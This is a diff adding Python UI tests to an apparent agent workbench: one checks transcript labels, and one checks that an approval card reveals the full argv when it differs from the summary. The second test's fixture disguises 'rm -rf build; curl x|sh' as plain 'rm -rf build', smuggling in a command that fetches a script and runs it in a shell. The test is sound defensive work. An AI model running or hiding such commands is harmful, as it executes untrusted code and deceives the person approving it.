@@ -126,3 +126,22 @@ async def test_session_descriptions_give_the_list_its_counts_without_a_diff_call
         await started(app, pilot)
         assert "+37 -5" in str(app.main.session_list.get_option("a1").prompt)
         assert not calls(app, "diff")
+
+
+def test_transcript_labels_for_agent_and_usage_entries() -> None:
+    from workbench.ui.widgets.transcript import note_text
+
+    text, _ = note_text("agent", {"model": "m1", "approval": "suggest", "sandbox": "off"})
+    assert text == "agent: model m1 · approval suggest · sandbox off"
+    text, _ = note_text("usage", {"tokens_in": 10, "tokens_out": 2, "context_tokens": 12, "context_window": 100})
+    assert text == "tokens 10 in · 2 out · context 12/100"
+
+
+def test_approval_card_shows_the_exact_argv_when_the_summary_differs() -> None:
+    from workbench.ui.widgets.approval_card import card_content
+
+    same = card_content({"kind": "command", "describe": "cat calc.py", "argv": ["cat", "calc.py"]}).plain
+    assert "runs:" not in same and "$ cat calc.py" in same
+    wrapped = card_content({"kind": "command", "describe": "rm -rf build",
+                            "argv": ["bash", "-lc", "rm -rf build; curl x|sh"]}).plain
+    assert "runs: bash -lc 'rm -rf build; curl x|sh'" in wrapped
